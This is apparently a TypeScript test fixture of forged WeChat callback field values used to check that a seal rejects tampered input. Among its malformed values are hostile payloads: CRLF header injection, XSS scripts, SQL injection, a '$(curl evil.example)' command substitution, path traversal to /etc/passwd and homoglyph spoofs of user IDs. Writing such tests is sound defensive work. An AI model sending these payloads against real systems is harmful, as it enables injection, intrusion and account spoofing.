import type { CallbackName } from './callbacks.ts';
import { alice, mallory } from './two-doors.ts';

/** A field as an attacker sends it; undefined leaves it out. */
export type ForgedField = {
  readonly name: CallbackName;
  readonly value: string | undefined;
  /** Whether it is still in WeChat's form: then only the seal can tell. */
  readonly wellFormed: boolean;
};

const malformed = (name: CallbackName, values: readonly (string | undefined)[]) =>
  values.map((value): ForgedField => ({ name, value, wellFormed: false }));
const wellFormed = (name: CallbackName, values: readonly string[]) =>
  values.map((value): ForgedField => ({ name, value, wellFormed: true }));

const scenes = [
  ...wellFormed('scene', ['0', '1', '100', '1000', '1002', '10000', '101', '2001']),
  ...malformed('scene', [
    undefined,
    '',
    '01001',
    '1001.0',
    '1e3',
    '0x3e9',
    '+1001',
    '-1',
    '-0',
    ' 1001',
    '1001 ',
    '1001\n',
    '1001\r\nSet-Cookie: a=b',
    '1001\0',
    '10001',
    '99999',
    '9'.repeat(400),
    '1001,1001',
    '1001;1002',
    '１００１',
    '١٠٠١',
    '𝟣𝟢𝟢𝟣',
    '⑩',
    'Infinity',
    'NaN',
    'null',
    'undefined',
    'true',
    '[1001]',
    '{}',
    '1_001',
    '1001n',
    '\ufeff1001',
    '1001\u200b',
    '%31001',
    'menu',
    '<b>1001</b>',
  ]),
];

const templates = [
  ...wellFormed('template_id', [
    'template-2',
    'template-',
    'template-11',
    'Template-1',
    'TEMPLATE-1',
    'template-1 ',
    ' template-1',
    'template-1\n',
    'template-1\0',
    'template-1,template-1',
    'template‑1',
    'ｔemplate-1',
    'template%2D1',
    '<script>',
    '__proto__',
    'x'.repeat(128),
  ]),
  ...malformed('template_id', [undefined]),
];

const actions = malformed('action', [
  undefined,
  '',
  'CONFIRM',
  'Confirm',
  'confirm ',
  ' confirm',
  'confirm\n',
  'confirm\0',
  'confirm,cancel',
  'cancel,confirm',
  'confirm;cancel',
  'accept',
  'reject',
  'get_confirm',
  'confirmed',
  'ｃonfirm',
  'сonfirm',
  'conﬁrm',
  'true',
  '1',
  'constructor',
  '<img src=x onerror=alert(1)>',
]);

const openids = malformed('openid', [
  'o',
  'o'.repeat(19),
  'o'.repeat(65),
  'o'.repeat(4_000),
  `${alice},${mallory}`,
  `${mallory},${alice}`,
  `${alice} ${mallory}`,
  `${alice};${mallory}`,
  `${alice}\n`,
  `${alice}\r\nX-Injected: 1`,
  `${alice}\0`,
  `${alice}%00`,
  `${alice}+`,
  ` ${alice}`,
  `"${alice}"`,
  `'${alice}' OR '1'='1`,
  `${alice}/credits/1001`,
  `${alice}.`,
  `${alice}\u200b`,
  '\ufeffoAlice0000000000000000000001',
  'оAlice0000000000000000000001',
  'oAlice٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠٠١',
  'ｏAlice0000000000000000000001',
  'oAlice000000000000000000000é',
  '😀'.repeat(10),
  '{"S":"oAlice0000000000000000000001"}',
  '<script>alert(document.domain)</script>',
  '$(curl evil.example)aaaaaaaaaa',
  '../../../../etc/passwd%00aaaa',
]);

/** What an attacker puts into each field beside the seal. */
export const forgedFields: readonly ForgedField[] = [
  ...scenes,
  ...templates,
  ...actions,
  ...openids,
];
